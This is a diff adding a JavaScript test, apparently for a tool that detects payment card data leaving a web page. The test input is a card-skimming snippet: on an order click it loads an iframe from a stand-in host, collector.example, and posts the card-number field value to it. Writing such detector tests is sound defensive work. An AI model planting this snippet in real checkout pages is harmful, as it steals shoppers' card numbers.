@@ -102,3 +102,13 @@ it('sees a card that is handed to a frame of another host, and one that a browse
   const sent = all(told, 'sends').map(({ what, to, way }) => `${what} ${to} ${way}`)
   expect(new Set(sent)).toEqual(new Set(['card collector.example message', 'card plain.example fetch']))
 })
+
+it('waits for a frame that a press brings, which is told the card once it is there', async () => {
+  const told = await run(`document.querySelector('#place_order').addEventListener('click', () => {
+    const frame = document.createElement('iframe')
+    frame.src = 'https://collector.example/'
+    frame.onload = () => frame.contentWindow.postMessage(document.getElementById('card-number').value, '*')
+    document.body.append(frame)
+  })`)
+  expect(all(told, 'sends').map(({ what, to, way }) => `${what} ${to} ${way}`)).toEqual(['card collector.example message'])
+})
